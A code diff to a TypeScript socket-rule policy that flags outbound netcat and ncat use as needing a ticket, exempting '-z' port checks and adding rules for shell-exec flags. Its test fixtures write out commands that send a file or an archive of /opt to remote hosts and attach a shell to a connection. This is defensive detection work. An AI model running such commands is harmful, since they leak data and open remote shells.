@@ -14,11 +14,16 @@ export const SOCKET_RULES: readonly Rule[] = [
     class: 'offhost',
     direction: 'out',
     verdict: 'needs_ticket',
-    when: [{ lacks: ['--version', '--help', '-h'], word: /./ }, { fed: true }],
+    // With -z a connection is opened and closed: whether a port answers.
+    when: [
+      { lacks: ['--version', '--help', '-h'], without: ['-z'], word: /./ },
+      { flags: ['-e', '-c', '--exec', '--sh-exec', '--lua-exec'] },
+      { fed: true },
+    ],
     why: WHY,
     tests: {
-      positive: ['nc 10.0.0.9 4444 < /tmp/a', 'tar c /opt | ncat x.example 443'],
-      negative: ['nc --help', 'ss -tlnp'],
+      positive: ['nc 10.0.0.9 4444 < /tmp/a', 'tar c /opt | ncat x.example 443', 'nc -h x.example 80', 'nc -ze sh h 1'],
+      negative: ['nc --help', 'ss -tlnp', 'nc -zv 10.0.0.1 22'],
     },
   },
   {
